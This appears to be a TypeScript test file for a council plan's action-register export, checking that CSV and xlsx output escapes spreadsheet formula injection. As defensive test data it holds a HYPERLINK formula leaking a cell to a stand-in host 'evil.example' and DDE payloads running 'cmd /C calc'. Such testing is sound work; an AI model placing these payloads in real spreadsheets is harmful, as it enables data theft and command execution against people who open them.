import ExcelJS from 'exceljs';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import {
  makeAction,
  makeFocusArea,
  makePlan,
  makePriority,
  type Action,
  type PersonRef,
} from '../../../src/domain';
import {
  exportRegister,
  exportRegisterCsv,
  exportRegisterXlsx,
  REGISTER_HEADINGS,
  registerRows,
  type ActionRegister,
} from '../../../src/plan/import/export-register';
import { escapeFormula, unescapeFormula } from '../../../src/domain/import/formula-escape';
import { readTables } from '../../../src/plan/import/read-tables';
import { LEICS } from './seed-rows';

const person = (displayName: string, agency: string): PersonRef => ({
  entraId: `id-${displayName.replace(/\W/g, '')}`,
  upn: `${displayName.replace(/\W/g, '').toLowerCase()}@leics.example`,
  displayName,
  agency,
});

const HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for the evidence")';
const DDE = "+cmd|' /C calc'!A0";

/** Part of Leicestershire's plan, with the cells an attacker or a careless paste would leave. */
function leicestershireRegister(): ActionRegister {
  const plan = makePlan({
    id: 'plan-leics',
    title: 'Leicestershire WSoA: 2021/22',
    localArea: 'Leicestershire',
  });
  const ids = { planId: plan.id };
  const p1 = makePriority({ ...ids, id: 'p1', number: 1, title: LEICS.area1 });
  const p2 = makePriority({ ...ids, id: 'p2', number: 2, title: 'Quality of EHC plans' });
  const f11 = makeFocusArea({ ...ids, priorityId: 'p1', id: 'f11', reference: '1.1', title: LEICS.focus11 });
  const f21 = makeFocusArea({ ...ids, priorityId: 'p2', id: 'f21', reference: '2.1', title: LEICS.focus21 });
  const action = (input: Partial<Action> & Pick<Action, 'id' | 'priorityId' | 'reference' | 'text'>) =>
    makeAction({ ...ids, ...input });
  const actions = [
    action({
      id: 'a211',
      priorityId: 'p2',
      focusAreaId: 'f21',
      reference: '2.1.1',
      text: LEICS.action211,
      lead: person('B Wile', 'LCC'),
      status: 'green',
    }),
    action({
      id: 'a1101',
      priorityId: 'p1',
      reference: '1.10.1',
      text: LEICS.action1101,
      governanceForum: '@SUM(1+1)*cmd|" /C calc"!A0',
      status: 'purple',
    }),
    action({
      id: 'a111',
      priorityId: 'p1',
      focusAreaId: 'f11',
      reference: '1.1.1',
      text: LEICS.action111,
      successMeasures: HYPERLINK,
      lead: person('P Sumner', 'LCC'),
      governanceForum: LEICS.board,
      dueDate: '2021-03-31',
      status: 'blue',
      progressNarrative: 'Structure agreed at the March board.\r\nTerms of reference published, "final".',
    }),
    action({
      id: 'a112',
      priorityId: 'p1',
      focusAreaId: 'f11',
      reference: '1.1.2',
      text: LEICS.action112,
      dueDate: '2021-12-31',
      dueDatePrecision: 'month',
      status: 'amber',
      progressNarrative: '-2 weeks: consultation with the PCF, schools; health',
    }),
    action({ id: 'a12', priorityId: 'p1', reference: '1.2', text: DDE, status: 'red' }),
  ];
  return { plan, priorities: [p2, p1], focusAreas: [f21, f11], actions };
}

const EXPECTED_ROWS = [
  [...REGISTER_HEADINGS],
  [
    `1. ${LEICS.area1}`,
    `1.1 ${LEICS.focus11}`,
    '1.1.1',
    LEICS.action111,
    `'${HYPERLINK}`,
    'P Sumner',
    LEICS.board,
    '31/03/2021',
    'Completed',
    'Structure agreed at the March board.\nTerms of reference published, "final".',
  ],
  [
    `1. ${LEICS.area1}`,
    `1.1 ${LEICS.focus11}`,
    '1.1.2',
    LEICS.action112,
    '',
    '',
    '',
    'Dec 2021',
    'Minor delays',
    "'-2 weeks: consultation with the PCF, schools; health",
  ],
  [`1. ${LEICS.area1}`, '', '1.2', `'${DDE}`, '', '', '', '', 'Little or no progress', ''],
  [
    `1. ${LEICS.area1}`,
    '',
    '1.10.1',
    LEICS.action1101,
    '',
    '',
    `'@SUM(1+1)*cmd|" /C calc"!A0`,
    '',
    'Yet to start',
    '',
  ],
  [
    '2. Quality of EHC plans',
    `2.1 ${LEICS.focus21}`,
    '2.1.1',
    LEICS.action211,
    '',
    'B Wile',
    '',
    '',
    'Good progress',
    '',
  ],
];

describe('escaping cells a spreadsheet would run as formulas (OWASP, CSV injection)', () => {
  // https://owasp.org/www-community/attacks/CSV_Injection: =, +, -, @, tab and CR start a formula.
  it.each([
    ['=1+1', "'=1+1"],
    [HYPERLINK, `'${HYPERLINK}`],
    [DDE, `'${DDE}`],
    ['-2 weeks', "'-2 weeks"],
    ['@SUM(A1)', "'@SUM(A1)"],
    ['\tindented', "'\tindented"],
    ['\rreturn', "'\rreturn"],
    ["'=already quoted", "''=already quoted"],
    ["'quoted' word", "'quoted' word"],
    ['Co-produce = agree', 'Co-produce = agree'],
    ['', ''],
  ])('%j is written %j and reads back as it was', (value, written) => {
    expect(escapeFormula(value)).toBe(written);
    expect(unescapeFormula(written)).toBe(value);
  });
});

describe('exporting the action register', () => {
  it('lays out one row per action in priority and reference order, escaped, with dates as dd/mm/yyyy', () => {
    expect(registerRows(leicestershireRegister())).toEqual(EXPECTED_ROWS);
  });

  it('writes CSV in UTF-8 with a BOM and CRLF, the escaped cells quoted, and reads back exactly', async () => {
    const file = exportRegisterCsv(leicestershireRegister());
    const text = new TextDecoder().decode(file.bytes);

    expect(file.name).toBe('Leicestershire WSoA- 2021-22 - action register.csv');
    expect(file.mediaType).toBe('text/csv;charset=utf-8');
    expect([...file.bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(text).toContain(`\r\n1. ${LEICS.area1},`);
    expect(text).toContain(`,"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click for the evidence"")",`);
    expect(await readTables(file)).toEqual([{ name: file.name, rows: EXPECTED_ROWS }]);
  });

  it('writes xlsx with text cells that are never formulas and a real date, and reads back exactly', async () => {
    const file = await exportRegister(leicestershireRegister(), 'xlsx');

    expect(file.name).toBe('Leicestershire WSoA- 2021-22 - action register.xlsx');
    expect(await readTables(file)).toEqual([{ name: "Sheet 'Action register'", rows: EXPECTED_ROWS }]);

    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(file.bytes.slice().buffer);
    const sheet = workbook.getWorksheet('Action register');
    const cells: ExcelJS.Cell[] = [];
    sheet?.eachRow((row) => row.eachCell((cell) => void cells.push(cell)));
    expect(cells.filter((cell) => cell.type === ExcelJS.ValueType.Formula || cell.formula)).toEqual([]);
    expect(sheet?.getCell('E2').value).toBe(`'${HYPERLINK}`);
    expect(sheet?.getCell('E2').numFmt).toBe('@');
    expect(sheet?.getCell('H2').value).toEqual(new Date('2021-03-31T00:00:00Z'));
    expect(sheet?.getCell('H2').numFmt).toBe('dd/mm/yyyy');
    expect(sheet?.getCell('H3').value).toBe('Dec 2021');
  });

  it('reads back exactly what it wrote, whatever the plan says, in both forms', async () => {
    const awkward = fc.oneof(
      fc.string({ unit: 'binary', maxLength: 40 }),
      fc.string({ unit: 'grapheme', maxLength: 40 }),
      fc.constantFrom(
        HYPERLINK,
        DDE,
        "'=x",
        '-',
        '"',
        '""',
        'a,b;c\td|e',
        'one\ntwo\r\nthree',
        '£ – ’',
        '_x000D_?',
      ),
    );
    const text = fc
      .tuple(awkward, fc.constantFrom('', 'Plan the work'))
      .map(([value, filler]) => `${value}${filler}`)
      .filter((value) => value.trim() !== '');
    const actionRows = fc.array(
      fc.record({
        text,
        successMeasures: awkward,
        progressNarrative: awkward,
        governanceForum: awkward,
        day: fc.option(
          fc.date({ min: new Date('1990-01-01'), max: new Date('2099-12-31'), noInvalidDate: true }),
        ),
        month: fc.boolean(),
      }),
      { minLength: 1, maxLength: 6 },
    );
    await fc.assert(
      fc.asyncProperty(actionRows, async (rows) => {
        const register = leicestershireRegister();
        const actions = rows.map((row, i) =>
          makeAction({
            id: `g${i}`,
            planId: register.plan.id,
            priorityId: 'p2',
            reference: `2.9.${i + 1}`,
            text: row.text.slice(0, 2000),
            successMeasures: row.successMeasures,
            progressNarrative: row.progressNarrative,
            governanceForum: row.governanceForum.slice(0, 255),
            dueDate: row.day ? row.day.toISOString().slice(0, 10) : null,
            dueDatePrecision: row.month ? 'month' : 'day',
          }),
        );
        const generated = { ...register, actions };
        const expected = registerRows(generated);
        const csv = exportRegisterCsv(generated);
        const xlsx = await exportRegisterXlsx(generated);

        expect(await readTables(csv)).toEqual([{ name: csv.name, rows: expected }]);
        expect(await readTables(xlsx)).toEqual([{ name: "Sheet 'Action register'", rows: expected }]);
      }),
      { numRuns: 40 },
    );
  });
});
